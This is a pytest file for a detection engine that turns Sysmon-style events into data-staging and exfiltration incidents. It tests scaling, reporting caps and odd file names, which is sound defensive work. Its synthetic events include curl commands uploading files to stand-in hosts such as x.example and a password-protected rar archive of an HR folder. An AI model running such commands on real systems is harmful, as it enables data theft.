"""An attacker writes names and counts: cost stays near linear, nothing raises, and caps say what was dropped."""

import time
from collections.abc import Callable, Iterable
from functools import cache

import pyarrow as pa
import pytest

from stashlight.engines.duckdb import Engine
from stashlight.events.paths import split
from stashlight.events.schema import ARROW
from stashlight.findings.load import SHIPPED
from stashlight.findings.load import load as load_rules
from stashlight.findings.match import match
from stashlight.findings.rule import RuleSet
from stashlight.incidents.correlate import correlate
from stashlight.incidents.document import Incident

Row = dict[str, object]

_START_US = 1_772_489_400_000_000
_SYSMON = "Microsoft-Windows-Sysmon/Operational"


def _event(number: int, kind: str, **more: object) -> Row:
    return {
        "event_key": f"{number:032x}",
        "file": "a.ndjson",
        "record": number,
        "provider": "sysmon",
        "kind": kind,
        "ts_us": _START_US + number * 1000,
        "host": "ws1",
        "host_lc": "ws1",
        "host_key": "ws1",
        "account": "ines",
        "account_lc": "ines",
        "account_key": "ines",
        "process_key": "p1",
        "process_path": "C:\\ProgramData\\upd.exe",
        "process_path_lc": "c:\\programdata\\upd.exe",
    } | more


def _write(number: int, path: str, kind: str = "file_create", **more: object) -> Row:
    place = split(path)
    where: Row = {"file_dir": place.directory, "file_name": place.name, "file_ext": place.extension}
    return _event(number, kind, event_id=11, file_path=path, file_path_lc=path.lower()) | where | more


def _command(number: int, line: str, image: str = "c:\\windows\\system32\\cmd.exe") -> Row:
    return _event(
        number,
        "process_start",
        event_id=1,
        channel=_SYSMON,
        channel_lc=_SYSMON.lower(),
        process_key=f"c{number}",
        process_path=image,
        process_path_lc=image,
        command_line=line,
        command_line_lc=line.lower(),
    )


def _arrival(number: int, path: str, client: str) -> Row:
    seen: Row = {
        "share_name": "\\\\*\\hr",
        "share_name_lc": "\\\\*\\hr",
        "share_path": "d:\\hr",
        "share_path_lc": "d:\\hr",
    }
    who: Row = {"is_remote": True, "client_ip": client, "client_ip_lc": client, "process_key": "srv|4"}
    return _write(number, path, host_key="srv") | seen | who


@cache
def _rules() -> RuleSet:
    return load_rules([SHIPPED])


def _incidents(rows: Iterable[Row]) -> list[Incident]:
    rows = list(rows)
    columns = [name for name in ARROW.names if any(name in row for row in (rows[0], rows[-1]))]
    wanted = [{name: row.get(name) for name in columns} for row in rows]
    table = pa.Table.from_pylist(wanted, schema=ARROW.empty_table().select(columns).schema)
    with Engine(threads=1) as engine:
        engine.add(table)
        match(engine, _rules())
        return correlate(engine, _rules())


def _removed(count: int) -> list[Row]:
    made = [_write(i, f"c:\\perflogs\\d{i}\\a.docx") for i in range(count)]
    return made + [_write(count + i, f"c:\\perflogs\\d{i}\\a.docx", "file_delete") for i in range(count)]


def _to_share(count: int) -> list[Row]:
    sent = [_command(i, f"cmd /c copy c:\\s{i}\\a.docx \\\\srv\\hr\\k{i}\\") for i in range(count)]
    return sent + [_arrival(count + i, f"d:\\hr\\k{i}\\a.docx", "10.0.0.1") for i in range(count)]


def _variables(count: int) -> list[Row]:
    told = [_command(i, f"cmd /c copy c:\\s{i}\\a.docx %TEMP%\\k{i}\\") for i in range(count)]
    return told + [_write(count + i, f"c:\\perflogs\\d{i}\\a.docx") for i in range(count)]


def _taken_again(count: int) -> list[Row]:
    taken = [_command(i, f"cmd /c copy c:\\perflogs\\k\\a{i}.docx c:\\perflogs\\q\\") for i in range(count)]
    return taken + [_write(count + i, f"c:\\perflogs\\k\\f{i}.docx", process_key=f"p{i}") for i in range(count)]


def _sent_away(count: int) -> list[Row]:
    curl = "c:\\windows\\system32\\curl.exe"
    sent = [_command(i, f"curl -T c:\\z{i}\\a.zip https://x.example/", curl) for i in range(count)]
    return sent + [_write(count + i, f"c:\\data{i}\\f.docx", process_key=f"p{i}") for i in range(count)]


def _logged_on(count: int) -> list[Row]:
    came = [_event(i, "logon", logon_type=10, client_ip="10.0.0.1", client_ip_lc="10.0.0.1") for i in range(count)]
    return came + [_write(count + i, f"c:\\perflogs\\k{i}\\f.docx", process_key=f"p{i}") for i in range(count)]


_FLOODS: dict[str, Callable[[int], list[Row]]] = {
    "wide": lambda n: [_write(i, f"c:\\perflogs\\d{i}\\a.docx") for i in range(n)],
    "deep": lambda n: [_write(i, f"c:\\perflogs\\b{i // 100}" + "\\d" * (i % 100) + "\\a.docx") for i in range(n)],
    "tiny files": lambda n: [_write(i, f"c:\\perflogs\\k\\f{i}.docx") for i in range(n)],
    "programs": lambda n: [_write(i, f"c:\\perflogs\\k\\f{i}.docx", process_key=f"p{i}") for i in range(n)],
    "extensions": lambda n: [_write(i, f"c:\\perflogs\\k\\f.x{i}") for i in range(n)],
    "secrets": lambda n: [_write(i, f"c:\\perflogs\\k\\f{i}.kdbx") for i in range(n)],
    "hosts": lambda n: [
        _write(i, f"c:\\perflogs\\k\\f{i % 5}.docx", host=f"h{i // 5}", host_key=f"h{i // 5}") for i in range(n)
    ],
    "clients": lambda n: [_arrival(i, f"d:\\hr\\f{i}.docx", f"10.1.{i // 250}.{i % 250}") for i in range(n)],
    "removed": _removed,
    "to a share": _to_share,
    "variables": _variables,
    "taken again": _taken_again,
    "sent away": _sent_away,
    "logons": _logged_on,
}
_FEW = 1_000
# Twice as much may take three times as long, and what every scan costs; comparing each with each takes four times.
_RATIO, _SLACK_SECONDS = 3, 0.6


@pytest.mark.alone
@pytest.mark.parametrize("flood", _FLOODS)
def test_twice_as_much_takes_about_twice_as_long(flood: str) -> None:
    _rules()
    seconds: list[float] = []
    for count in (_FEW, 2 * _FEW):
        rows = _FLOODS[flood](count)
        start = time.process_time()
        _incidents(rows)
        seconds.append(time.process_time() - start)
    assert seconds[1] < _RATIO * seconds[0] + _SLACK_SECONDS


def test_a_hundred_thousand_files_in_as_many_directories_are_one_incident() -> None:
    count = 100_000
    found = _incidents(_FLOODS["wide"](count))
    assert [(i.files.count, i.places) for i in found] == [(count, ("c:\\perflogs",))]


def test_two_hundred_thousand_tiny_files_in_one_place_are_one_incident() -> None:
    count = 200_000
    found = _incidents(_FLOODS["tiny files"](count))
    assert [(i.files.count, i.files.extensions) for i in found] == [(count, {"docx": count})]


def test_each_of_two_thousand_hosts_has_its_incident() -> None:
    found = _incidents(_FLOODS["hosts"](10_000))
    assert len({i.id for i in found}) == len({i.hosts for i in found}) == 2_000


def test_a_burst_that_never_ends_is_one_incident() -> None:
    """A file every minute for ten days, with no pause that would end a session."""
    found = _incidents(
        _write(i, f"c:\\perflogs\\k\\f{i}.docx", ts_us=_START_US + i * 60_000_000) for i in range(10 * 24 * 60)
    )
    assert [i.files.count for i in found] == [10 * 24 * 60]


def test_what_is_left_out_is_counted() -> None:
    sources = [_command(i, f'cmd /c "copy c:\\s{i}\\a.docx c:\\perflogs\\k\\"') for i in range(60)]
    written = [
        _write(100 + i, f"c:\\perflogs\\k\\f{i}.x{i}", account_key=f"a{i}", process_key=f"p{i}") for i in range(300)
    ]
    (found,) = _incidents([*sources, *written])
    said = " ".join(found.notes)
    assert len(found.files.extensions) < 300
    for what in ("accounts", "extensions", "sources", "commands", "events of evidence"):
        assert f"more {what} are not listed" in said


def test_ways_out_beyond_what_anybody_reads_are_cut_and_said() -> None:
    packed = _command(0, "rar a -hpx c:\\perflogs\\k.rar c:\\hr", "c:\\k\\rar.exe")
    sent = [_command(1 + i, f"curl -F f=@a{i}.bin https://example.com/", "c:\\k\\curl.exe") for i in range(300)]
    found = _incidents([packed, *sent])
    assert any("no more than the first 200 are weighed" in note for i in found for note in i.notes)


_ODD = (
    '"',
    "\n",
    "\r",
    "\u202e",
    "*",
    "?",
    "\x00",
    "\x01",
    "\x1b[31m",
    "'",
    "%",
    "{}",
    "\u0301",
    "<b>",
    "\U0001f600",
    ";--",
)


def test_odd_names_do_no_harm() -> None:
    rows = [_write(i, f"c:\\perflogs\\k{_ODD[i % 16]}x\\f{_ODD[i * 7 % 16]}{i}.docx") for i in range(640)]
    rows += [_command(1000 + i, f"cmd /c copy c:\\hr\\{odd}.docx c:\\perflogs\\k{odd}x") for i, odd in enumerate(_ODD)]
    assert sum(i.files.count for i in _incidents(rows)) == 640


def test_the_year_2099_is_a_time_like_another() -> None:
    late = 4_070_908_800_000_000
    rows = [_write(i, f"c:\\perflogs\\k\\f{i}.docx") for i in range(30)]
    rows += [_write(100 + i, f"c:\\perflogs\\k\\g{i}.docx", ts_us=late + i) for i in range(30)]
    found = _incidents(rows)
    assert sorted(i.first_seen[:4] for i in found) == ["2026", "2099"]


@pytest.mark.parametrize("ts_us", [0, -1, 253_402_300_799_999_999, -62_135_596_800_000_000])
def test_times_at_the_ends_of_the_calendar_are_read(ts_us: int) -> None:
    assert len(_incidents(_write(i, f"c:\\perflogs\\k\\f{i}.docx", ts_us=ts_us) for i in range(30))) == 1
